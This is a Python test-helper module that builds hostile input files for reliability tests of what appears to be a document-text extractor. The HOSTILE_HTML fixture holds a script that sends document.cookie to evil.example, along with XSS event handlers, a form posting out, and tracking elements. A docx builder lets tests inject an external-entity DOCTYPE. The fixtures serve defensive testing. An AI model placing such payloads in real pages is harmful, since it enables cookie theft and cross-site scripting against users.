"""Helpers for the reliability tests: hostile files and killed processes."""
from __future__ import annotations

import io
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import docx

ROOT = Path(__file__).resolve().parents[2]


def zip_bytes(parts: dict[str, bytes]) -> bytes:
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return bio.getvalue()


def docx_bytes(*paragraphs: str) -> bytes:
    d = docx.Document()
    for p in paragraphs:
        d.add_paragraph(p)
    bio = io.BytesIO()
    d.save(bio)
    return bio.getvalue()


def docx_with_doctype(doctype: bytes) -> bytes:
    """A valid .docx whose document.xml starts with `doctype` (e.g. an external entity)."""
    src = zipfile.ZipFile(io.BytesIO(docx_bytes("Body text")))
    parts = {n: src.read(n) for n in src.namelist()}
    head, _, rest = parts["word/document.xml"].partition(b"?>")
    parts["word/document.xml"] = head + b"?>" + doctype + rest
    return zip_bytes(parts)


HOSTILE_HTML = b"""<!DOCTYPE html><html><head><title>T</title>
<script>fetch("http://evil.example/steal?c=" + document.cookie); alert("xss")</script>
<link rel="stylesheet" href="http://evil.example/s.css"></head>
<body onload="alert('onload')"><h1>Harbour Festival Opens</h1>
<p>HANOI, 3 June 2024 - The <b>harbour <i>festival</b> opened</i> today.
<img src="http://evil.example/pixel.gif" onerror="alert('img')" alt="tracking pixel">
<form action="http://evil.example/post"><input name="q" value="formsecret">
<button>Send</button></form><iframe src="http://evil.example/frame">framed</iframe>
<p>Second <div>paragraph</p> with <table><tr><td>broken</table> nesting.
<script>document.write("<p>injected</p>")</script></body></html>
"""


def start_script(code: str, *args: str) -> subprocess.Popen:
    """Run `code` in a fresh interpreter (argv[1:] = args) from the repository root."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.Popen([sys.executable, "-c", code, *args], cwd=ROOT, env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def wait_for(path: Path, proc: subprocess.Popen, timeout: float = 60.0) -> None:
    """Wait until the child creates `path` (its progress signal)."""
    deadline = time.monotonic() + timeout
    while not path.exists():
        if proc.poll() is not None:
            out, err = proc.communicate()
            raise AssertionError(f"child exited early ({proc.returncode}):\n{out}\n{err}")
        if time.monotonic() > deadline:
            proc.kill()
            raise AssertionError("child never signalled")
        time.sleep(0.02)

